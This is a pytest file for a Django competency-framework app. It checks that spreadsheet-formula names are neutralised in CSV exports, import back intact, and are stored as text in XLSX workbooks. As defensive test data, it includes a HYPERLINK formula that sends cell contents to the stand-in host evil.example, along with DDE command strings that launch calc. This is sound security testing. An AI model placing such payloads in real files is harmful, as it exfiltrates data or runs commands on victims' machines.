"""Names that a spreadsheet would run as formulas: the framework CSV neutralises them and
reads them back exactly; the learning-needs workbook writes them as text."""

import csv
import dataclasses
import io
from collections.abc import Callable
from typing import Any

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook

from guild.competencies.models import Competency, FrameworkVersion
from guild.competencies.services import assessment_self, framework_load_published
from guild.competencies.tests.builders import small
from guild.core.models import Job
from guild.members.models import Member
from guild.organizations.models import Community

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
ATTACKS = {
    "name_en": PAYLOAD,
    "name_fr": "+1+cmd|' /C calc'!A0",
    "description_en": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_fr": "'déjà cité",
}


def _poisoned() -> Any:
    framework = small()
    first = framework.families[0].competencies[0]
    framework.families[0].competencies[0] = dataclasses.replace(
        first,
        name_en=ATTACKS["name_en"],
        name_fr=ATTACKS["name_fr"],
        description_en=ATTACKS["description_en"],
        description_fr=ATTACKS["description_fr"],
    )
    framework.families[0] = dataclasses.replace(framework.families[0], name_en="-1+2")
    return framework


def test_framework_csv_download_neutralises_formulas_and_imports_back_exactly(
    cast: dict[str, Any], im: Community, login: Any, django_capture_on_commit_callbacks: Any
) -> None:
    version = framework_load_published(community=im, content=_poisoned(), code="digital")
    client = login(cast["admin"].user)

    download = client.get(f"/en/competencies/frameworks/versions/{version.pk}/framework.csv")

    rows = list(csv.DictReader(io.StringIO(download.content.decode())))
    first = rows[0]
    assert first["competency_name_en"] == f"'{PAYLOAD}"
    assert first["competency_name_fr"] == "'+1+cmd|' /C calc'!A0"
    assert first["description_en"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert first["description_fr"] == "''déjà cité"
    assert first["family_name_en"] == "'-1+2"
    assert first["level"] == "1"
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]

    with django_capture_on_commit_callbacks(execute=True):  # the import job runs on commit
        response = client.post(
            "/en/competencies/frameworks/import/",
            {
                "community": str(im.pk),
                "framework": str(version.framework_id),
                "file_format": "csv",
                "title_en": "Digital",
                "title_fr": "Numérique",
                "file": SimpleUploadedFile("f.csv", download.content, content_type="text/csv"),
            },
        )

    job = Job.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/en/jobs/{job.pk}/"
    draft = FrameworkVersion.objects.get(framework=version.framework, number=2)
    outcome = client.get(response["Location"]).context["outcome"]
    assert outcome["link"]["url"] == (
        f"/en/competencies/frameworks/{version.framework_id}/?version=2"
    )
    imported = Competency.objects.get(version=draft, code="DATA-1")
    assert {field: getattr(imported, field) for field in ATTACKS} == ATTACKS
    assert imported.family.name_en == "-1+2"


def test_learning_needs_workbook_writes_formula_like_names_as_text(
    cast: dict[str, Any],
    im: Community,
    make_member: Any,
    on_profile: Callable[[Member], Member],
    competency: Callable[[str], Competency],
    login: Any,
) -> None:
    ril01 = competency("RIL-01")
    Competency.objects.filter(pk=ril01.pk).update(name_en=PAYLOAD, name_fr="@cmd")
    member = on_profile(make_member())
    assessment_self(actor=member.user, member=member, competency=ril01, level=1)

    response = login(cast["admin"].user).get("/en/competencies/learning-needs/xlsx/")

    assert response.status_code == 200
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    poisoned = [c for c in cells if c.value in (PAYLOAD, "@cmd")]
    assert poisoned, "the competency's names are in the workbook"
    assert all(c.data_type == "s" and c.quotePrefix for c in poisoned)
    assert not [c for c in cells if c.data_type == "f"]
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert numbers and all(isinstance(n, int | float) for n in numbers)
